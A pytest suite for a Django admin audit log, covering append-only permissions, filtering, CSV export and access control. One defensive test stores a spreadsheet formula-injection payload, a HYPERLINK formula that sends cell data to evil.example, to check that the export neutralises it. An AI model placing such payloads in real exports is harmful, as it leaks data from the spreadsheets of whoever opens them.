"""The audit log in the back-office: append-only for everyone, filtered by action,
date, subject and actor, and exported as CSV with the same filters."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from datetime import timedelta
from typing import Any

import pytest
from django.contrib.auth.models import Group
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from accounts.models import AuditEvent, User
from accounts.services.audit import Action, audit_record
from tests.conftest import staff_signed_in

pytestmark = pytest.mark.django_db

LIST = "/admin/accounts/auditevent/"
EXPORT = "/admin/accounts/auditevent/export.csv"
HEADER = ["time", "action", "subject", "actor", "impersonator", "ip_address", "user_agent", "data"]


# --- Helpers ----------------------------------------------------------------------------


staff_client = staff_signed_in


@pytest.fixture
def boss(user_factory: Callable[..., User]) -> User:
    return user_factory(username="boss", is_staff=True, is_superuser=True)


@pytest.fixture
def superuser_client(boss: User) -> Client:
    return staff_client(boss)


@pytest.fixture
def security_client(user_factory: Callable[..., User]) -> Client:
    member = user_factory(username="secops", is_staff=True)
    member.groups.add(Group.objects.get(name="Security admins"))
    return staff_client(member)


def at(event: AuditEvent, days_ago: int) -> AuditEvent:
    AuditEvent.objects.filter(pk=event.pk).update(
        created_at=timezone.now() - timedelta(days=days_ago)
    )
    event.refresh_from_db()
    return event


@pytest.fixture
def events(user_factory: Callable[..., User], boss: User) -> dict[str, AuditEvent]:
    alice = user_factory(username="alice")
    bob = user_factory(username="bob")
    agent = user_factory(username="agent", is_staff=True)
    return {
        "alice_suspended": audit_record(
            ctx=None, action=Action.SUSPENDED, subject=alice, actor=agent, data={"reason": "Spam"}
        ),
        "alice_profile": at(
            audit_record(
                ctx=None,
                action=Action.PROFILE_UPDATED,
                subject=alice,
                actor=alice,
                impersonator_id=agent.pk,
            ),
            days_ago=3,
        ),
        "bob_password": at(
            audit_record(ctx=None, action=Action.PASSWORD_CHANGED, subject=bob, actor=bob),
            days_ago=40,
        ),
        "bob_suspended": at(
            audit_record(
                ctx=None,
                action=Action.SUSPENDED,
                subject=bob,
                actor=boss,
                data={"reason": "Fraud, again"},
            ),
            days_ago=400,
        ),
    }


def shown(response: Any) -> set[int]:
    assert response.status_code == 200, response.status_code
    return {e.pk for e in response.context_data["cl"].result_list}


def pks(events: dict[str, AuditEvent], *names: str) -> set[int]:
    return {events[n].pk for n in names}


def exported(response: Any) -> list[dict[str, str]]:
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert "attachment" in response["Content-Disposition"]
    body = b"".join(response.streaming_content).decode("utf-8")
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[0] == HEADER
    return [dict(zip(HEADER, row, strict=True)) for row in rows[1:]]


def snapshot() -> list[tuple[Any, ...]]:
    return list(
        AuditEvent.objects.order_by("pk").values_list(
            "pk", "action", "actor_id", "subject_id", "subject_label", "data", "created_at"
        )
    )


# --- Append-only -------------------------------------------------------------------------------


@pytest.mark.parametrize("who", ["superuser", "security admin"])
def test_nobody_adds_changes_or_deletes_an_event(
    events: dict[str, AuditEvent],
    superuser_client: Client,
    security_client: Client,
    who: str,
) -> None:
    client = superuser_client if who == "superuser" else security_client
    event = events["alice_suspended"]
    before = snapshot()

    assert client.get(reverse("admin:accounts_auditevent_add")).status_code == 403
    assert (
        client.post(
            reverse("admin:accounts_auditevent_add"), {"action": "account.suspended"}
        ).status_code
        == 403
    )

    change = reverse("admin:accounts_auditevent_change", args=[event.pk])
    page = client.get(change)
    assert page.status_code == 200  # read-only view
    assert 'name="action"' not in page.content.decode()
    assert 'name="_save"' not in page.content.decode()
    response = client.post(
        change,
        {
            "action": "account.restored",
            "subject_label": "someone else",
            "data": json.dumps({"reason": "edited"}),
            "_save": "Save",
        },
    )
    assert response.status_code == 403

    delete = reverse("admin:accounts_auditevent_delete", args=[event.pk])
    assert client.get(delete).status_code == 403
    assert client.post(delete, {"post": "yes"}).status_code == 403

    listing = client.get(LIST)
    assert listing.context_data["action_form"] is None
    assert "delete_selected" not in listing.content.decode()
    client.post(LIST, {"action": "delete_selected", "_selected_action": [event.pk], "post": "yes"})
    history = reverse("admin:accounts_auditevent_history", args=[event.pk])
    assert client.get(history).status_code == 200

    assert snapshot() == before


def test_the_admin_declares_no_write_permission(rf: Any, boss: User) -> None:
    from django.contrib import admin

    model_admin = admin.site._registry[AuditEvent]
    request = rf.get(LIST)
    request.user = boss
    assert not model_admin.has_add_permission(request)
    assert not model_admin.has_change_permission(request)
    assert not model_admin.has_delete_permission(request)
    assert model_admin.has_view_permission(request)
    assert model_admin.get_actions(request) == {}


# --- Filters -----------------------------------------------------------------------------------


def test_the_list_shows_every_event(
    events: dict[str, AuditEvent], superuser_client: Client
) -> None:
    assert shown(superuser_client.get(LIST)) == pks(events, *events)


def test_filter_by_action(events: dict[str, AuditEvent], superuser_client: Client) -> None:
    response = superuser_client.get(LIST, {"action": "account.suspended"})
    assert shown(response) == pks(events, "alice_suspended", "bob_suspended")
    response = superuser_client.get(LIST, {"action": "password.changed"})
    assert shown(response) == pks(events, "bob_password")
    page = superuser_client.get(LIST).content.decode()
    assert "?action=account.suspended" in page
    assert "Account suspended" in page


def test_filter_by_date(events: dict[str, AuditEvent], superuser_client: Client) -> None:
    midnight = timezone.localtime().replace(hour=0, minute=0, second=0, microsecond=0)
    last_7_days = {
        "created_at__gte": str(midnight - timedelta(days=7)),
        "created_at__lt": str(midnight + timedelta(days=1)),
    }
    assert shown(superuser_client.get(LIST, last_7_days)) == pks(
        events, "alice_suspended", "alice_profile"
    )
    today = {"created_at__gte": str(midnight), "created_at__lt": str(midnight + timedelta(days=1))}
    assert shown(superuser_client.get(LIST, today)) == pks(events, "alice_suspended")
    old = events["bob_suspended"].created_at
    by_year = superuser_client.get(LIST, {"created_at__year": str(old.year)})
    assert events["bob_suspended"].pk in shown(by_year)


def test_filter_by_subject_and_actor(
    events: dict[str, AuditEvent], superuser_client: Client
) -> None:
    alice = events["alice_suspended"].subject
    bob = events["bob_password"].subject
    agent = events["alice_suspended"].actor
    assert alice is not None
    assert bob is not None
    assert agent is not None
    assert shown(superuser_client.get(LIST, {"subject__id__exact": alice.pk})) == pks(
        events, "alice_suspended", "alice_profile"
    )
    assert shown(superuser_client.get(LIST, {"subject__id__exact": bob.pk})) == pks(
        events, "bob_password", "bob_suspended"
    )
    assert shown(superuser_client.get(LIST, {"actor__id__exact": agent.pk})) == pks(
        events, "alice_suspended"
    )
    assert shown(
        superuser_client.get(LIST, {"subject__id__exact": bob.pk, "action": "account.suspended"})
    ) == pks(events, "bob_suspended")


def test_search_by_username(events: dict[str, AuditEvent], superuser_client: Client) -> None:
    assert shown(superuser_client.get(LIST, {"q": "bob"})) == pks(
        events, "bob_password", "bob_suspended"
    )
    # Usernames are matched exactly, the subject's kept name (after a purge) too, as
    # the search's help text says.
    assert shown(superuser_client.get(LIST, {"q": "agent"})) == pks(events, "alice_suspended")
    assert shown(superuser_client.get(LIST, {"q": "agen"})) == set()
    assert shown(superuser_client.get(LIST, {"q": "bo"})) == set()


def test_a_users_page_links_to_their_log(
    events: dict[str, AuditEvent], superuser_client: Client
) -> None:
    alice = events["alice_suspended"].subject
    assert alice is not None
    page = superuser_client.get(reverse("admin:accounts_user_change", args=[alice.pk]))
    assert f"{LIST}?subject__id__exact={alice.pk}" in page.content.decode()


def test_the_list_page_has_a_query_budget(
    events: dict[str, AuditEvent],
    superuser_client: Client,
    django_assert_max_num_queries: Any,
) -> None:
    superuser_client.get(LIST)
    with django_assert_max_num_queries(8):
        superuser_client.get(LIST)
    alice = events["alice_suspended"].subject
    AuditEvent.objects.bulk_create(
        AuditEvent(action=Action.SIGNED_IN, subject=alice, actor=alice, subject_label="alice")
        for _ in range(150)
    )
    with django_assert_max_num_queries(8):
        superuser_client.get(LIST)


# --- CSV export ----------------------------------------------------------------------------------


def test_the_export(events: dict[str, AuditEvent], superuser_client: Client) -> None:
    rows = exported(superuser_client.get(EXPORT))
    assert len(rows) == 4
    first = rows[0]
    event = events["alice_suspended"]
    assert first == {
        "time": event.created_at.isoformat(),
        "action": "account.suspended",
        "subject": "alice",
        "actor": "agent",
        "impersonator": "",
        "ip_address": "",
        "user_agent": "",
        "data": json.dumps({"reason": "Spam"}),
    }
    assert rows[1]["impersonator"] == "agent"
    assert rows[-1]["data"] == json.dumps({"reason": "Fraud, again"})
    assert [r["action"] for r in rows] == [
        "account.suspended",
        "profile.updated",
        "password.changed",
        "account.suspended",
    ]


@pytest.mark.parametrize(
    ("params", "expected"),
    [
        ({"action": "account.suspended"}, ["alice_suspended", "bob_suspended"]),
        ({"subject__id__exact": "bob"}, ["bob_password", "bob_suspended"]),
        ({"actor__id__exact": "agent"}, ["alice_suspended"]),
        ({"q": "alice"}, ["alice_suspended", "alice_profile"]),
        ({"recent": "1"}, ["alice_suspended", "alice_profile"]),
    ],
)
def test_the_export_respects_the_filters(
    events: dict[str, AuditEvent],
    superuser_client: Client,
    params: dict[str, str],
    expected: list[str],
) -> None:
    users = {u.username: str(u.pk) for u in User.objects.all()}
    query = {k: users[v] if k.endswith("__id__exact") else v for k, v in params.items()}
    if query.pop("recent", None):
        midnight = timezone.localtime().replace(hour=0, minute=0, second=0, microsecond=0)
        query["created_at__gte"] = str(midnight - timedelta(days=7))
        query["created_at__lt"] = str(midnight + timedelta(days=1))
    rows = exported(superuser_client.get(EXPORT, query))
    assert [r["time"] for r in rows] == [events[n].created_at.isoformat() for n in expected]
    assert shown(superuser_client.get(LIST, query)) == pks(events, *expected)


@pytest.mark.parametrize("params", [{"created_at__gte": "garbage"}, {"subject__id__exact": "abc"}])
def test_a_bad_filter_is_refused_by_the_list(
    events: dict[str, AuditEvent], superuser_client: Client, params: dict[str, str]
) -> None:
    response = superuser_client.get(LIST, params)
    assert response.status_code == 302
    assert response["Location"] == f"{LIST}?e=1"


def test_a_filter_the_list_does_not_offer_is_a_400(
    events: dict[str, AuditEvent], superuser_client: Client
) -> None:
    """More in ``test_backoffice_bad_input``: every list refuses what it does not offer."""
    superuser_client.raise_request_exception = False
    assert superuser_client.get(LIST, {"no_such_field": "1"}).status_code == 400


@pytest.mark.parametrize(
    "params",
    [{"created_at__gte": "garbage"}, {"subject__id__exact": "abc"}, {"no_such_field": "1"}],
)
def test_a_bad_filter_is_refused_by_the_export(
    events: dict[str, AuditEvent], superuser_client: Client, params: dict[str, str]
) -> None:
    superuser_client.raise_request_exception = False
    response = superuser_client.get(EXPORT, params)
    assert response.status_code == 400


def test_the_list_links_to_the_export_with_its_filters(
    events: dict[str, AuditEvent], superuser_client: Client
) -> None:
    page = superuser_client.get(LIST, {"action": "account.suspended"}).content.decode()
    assert f'href="{EXPORT}?action=account.suspended"' in page


def test_the_export_of_a_purged_subject_keeps_the_pseudonym(
    events: dict[str, AuditEvent], superuser_client: Client
) -> None:
    from accounts.services.deletion import account_purge, pseudonym

    bob = events["bob_password"].subject
    assert bob is not None
    pk = bob.pk
    account_purge(ctx=None, user=bob)
    rows = exported(superuser_client.get(EXPORT))
    assert "bob" not in {r["subject"] for r in rows}
    assert sum(r["subject"] == pseudonym(pk) for r in rows) == 3  # two kept, one "purged"


def test_the_export_neutralises_spreadsheet_formulas(
    superuser_client: Client, user_factory: Callable[..., User]
) -> None:
    alice = user_factory(username="alice")
    AuditEvent.objects.create(
        action=Action.SIGNED_IN,
        subject=alice,
        subject_label="alice",
        user_agent='=HYPERLINK("http://evil.example/?x="&A1,"click")',
    )
    rows = exported(superuser_client.get(EXPORT))
    assert not rows[0]["user_agent"].startswith("=")


# --- Who sees it --------------------------------------------------------------------------------


@pytest.mark.parametrize("group", ["Support", "Operators", None])
def test_without_view_auditevent_the_log_is_out_of_reach(
    events: dict[str, AuditEvent], user_factory: Callable[..., User], group: str | None
) -> None:
    member = user_factory(username="helper", is_staff=True)
    if group:
        member.groups.add(Group.objects.get(name=group))
    client = staff_client(member)

    assert client.get(LIST).status_code == 403
    assert client.get(EXPORT).status_code == 403
    event = events["alice_suspended"]
    assert (
        client.get(reverse("admin:accounts_auditevent_change", args=[event.pk])).status_code == 403
    )
    index = client.get(reverse("admin:index")).content.decode()
    assert LIST not in index
    if group == "Support":
        alice = event.subject
        assert alice is not None
        page = client.get(reverse("admin:accounts_user_change", args=[alice.pk]))
        assert page.status_code == 200
        assert f"{LIST}?subject__id__exact=" not in page.content.decode()


def test_security_admins_see_the_log(
    events: dict[str, AuditEvent], security_client: Client
) -> None:
    assert shown(security_client.get(LIST)) == pks(events, *events)
    assert len(exported(security_client.get(EXPORT))) == 4


def test_an_unverified_staff_session_gets_no_export(
    events: dict[str, AuditEvent], boss: User
) -> None:
    client = Client()
    client.force_login(boss, backend="django.contrib.auth.backends.ModelBackend")
    response = client.get(EXPORT)
    assert response.status_code == 302
    assert response["Location"].startswith(reverse("admin:login"))
